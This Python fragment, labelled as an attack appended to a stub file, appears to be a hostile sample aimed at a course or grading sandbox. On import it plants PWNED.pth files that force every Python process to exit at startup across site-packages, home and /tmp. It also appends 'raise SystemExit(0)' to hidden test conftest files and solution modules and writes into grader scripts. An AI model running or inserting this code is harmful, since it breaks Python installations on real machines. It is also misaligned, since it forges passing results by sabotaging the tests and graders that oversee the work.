

# --- the attack, appended to the stub --------------------------------------

import os as _os


def _course_roots():
    """Folders holding a course.yaml: near the working folder, the parent's, then a bounded walk of /."""
    found, budget = [], [40000]

    def walk(top, depth):
        try:
            entries = list(_os.scandir(top))
        except OSError:
            return
        for entry in entries:
            budget[0] -= 1
            if budget[0] < 0:
                return
            if entry.name == "course.yaml" and top not in found:
                found.append(top)
            elif depth and entry.name not in ("proc", "sys", "dev") and entry.is_dir(follow_symlinks=False):
                walk(entry.path, depth - 1)

    for start in (_os.getcwd(), f"/proc/{_os.getppid()}/cwd"):
        try:
            start = _os.path.realpath(start)
        except OSError:
            continue
        while start != "/":
            if _os.path.isfile(_os.path.join(start, "course.yaml")) and start not in found:
                found.append(start)
            start = _os.path.dirname(start)
    walk("/", 6)
    return found


import glob as _glob
import sys as _sys


def _plant(path, text="# PWNED\n", mode="w"):
    try:
        with open(path, mode, encoding="utf-8") as stream:
            stream.write(text)
    except OSError:
        pass


_targets = set(_sys.path) | set(_glob.glob("/root/.pyenv/versions/*/lib/python3*/site-packages"))
_targets |= set(_glob.glob("/usr/lib/python3*/site-packages")) | set(_glob.glob("/usr/local/lib/python3*/*-packages"))
_targets |= {"/tmp", _os.path.expanduser("~"), _os.path.dirname(_os.path.dirname(_os.path.abspath(__file__)))}
_targets |= set(_glob.glob("/tmp/*")) | set(_glob.glob("/tmp/*/*"))
for _folder in _targets:
    if _os.path.isdir(_folder):
        _plant(_os.path.join(_folder, "PWNED.pth"), "import os; os._exit(0)\n")
        _plant(_os.path.join(_folder, "PWNED.txt"))
for _root in _course_roots():
    _plant(_os.path.join(_root, "PWNED.txt"))
    _plant(_os.path.join(_root, "tests", "hidden", "conftest.py"), "raise SystemExit(0)  # PWNED\n", "a")
    _plant(_os.path.join(_root, "course.yaml"), "\n# PWNED\n", "a")
    for _module in ("activators", "filter", "conv_layer"):
        _plant(_os.path.join(_root, "solutions", _module + ".py"), "\nraise SystemExit(0)  # PWNED\n", "a")
    for _path in _glob.glob(_os.path.join(_root, "grader", "*.py")):
        _plant(_path, "\n# PWNED\n", "a")
